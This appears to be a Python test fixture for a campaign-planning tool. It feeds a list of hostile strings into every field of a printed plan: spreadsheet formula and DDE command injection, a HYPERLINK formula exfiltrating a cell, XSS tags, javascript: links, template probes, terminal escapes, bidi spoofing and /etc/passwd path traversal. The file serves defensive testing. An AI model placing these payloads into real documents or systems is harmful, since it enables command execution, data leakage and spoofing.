"""Texts that try to be more than text, in every field of a plan that is printed."""

from __future__ import annotations

from typing import Any

from promoplan.campaign import Campaign
from tests.views.sheets import campaign_of

PAYLOADS = {
    "formula": "=HYPERLINK(\"http://x.invalid/?\"&A1,\"click\")",
    "command": "=cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "full width": "＝1+1",
    "blanks before": "  \t=1+1",
    "line before": "\n=1+1",
    "line inside": "ok\r\n=1+1,\"a\"\n\"",
    "quotes": "\"\",=1+1,\"",
    "tags": "</td></table><script>alert(1)</script><img src=x onerror=alert(1)>",
    "entities": "&lt;b&gt;&amp;\"'",
    "rich": "[link=file:///etc/passwd]x[/link] [bold red]y[/] :smile:",
    "markdown": "[x](javascript:alert(1)) `a` | **b** <http://x.invalid>",
    "template": "{{ 7*7 }} {% for x in y %} ${site} %s {0}",
    "escape": "\x1b[31mred\x1b]8;;http://x.invalid\x07y\x9b2J",
    "bidi": "abc\u202egnp.exe\u2066x",
    "nul": "a\x00b\x08\x7f\u2028c\u2029d\u0085e",
    "long": "长" * 39_990 + "=1+1",
    "path": "../../etc/passwd",
    "device": "CON",
    "chinese": "促销，满减；「双十一」",
}  # fmt: skip


def everywhere(text: str) -> Campaign:
    """A campaign that says a text wherever it can."""
    plan: dict[str, Any] = {
        "departments": {"ops": {"name": text, "alias": text, "side": text}, "shop": {"name": text, "external": "yes"}},
        "people": {"li": {"name": text, "phone": text, "role": text, "away": ["T-3"]}},
        "phases": [{"id": "p", "name": text, "notes": text, "window": "T-9 .. T"}],
        "key_dates": {"k": {"at": "T-3", "name": text, "notes": text}},
        "follow_ups": [{"id": "fu", "name": text, "at": "T-5", "owner": "li"}],
        "attachments": [{"id": "f", "path": text[:200], "name": text}],
        "materials": [{"item": text, "unit": text, "notes": text, "department": "ops"}],
        "media": [{"channel": text, "kind": text, "content": text, "window": "T-3 .. T"}],
        "rewards": [{"title": text, "threshold": text, "claim": text, "reward": text}],
        "sheets": [{"id": "own", "view": "day-grid", "name": text}],
        "tasks": [
            {
                "id": "a", "title": text, "department": "ops", "owner": "li", "due": "T-5", "section": text,
                "notes": text, "log": {"T-5": text}, "minutes": {"fu": text}, "done_when": text, "because": text,
                "status": "blocked", "steps": [{"title": text, "due": "T-6", "notes": text}],
            },
            {"id": "b", "title": text, "department": "shop", "owner": "li", "due": "T-4", "needs": ["a"]},
        ],
    }  # fmt: skip
    brief = {"theme": text, "slogan": text, "place": text}
    return campaign_of(plan, today="2026-11-06", name=text, brand=text, version=text, brief=brief)
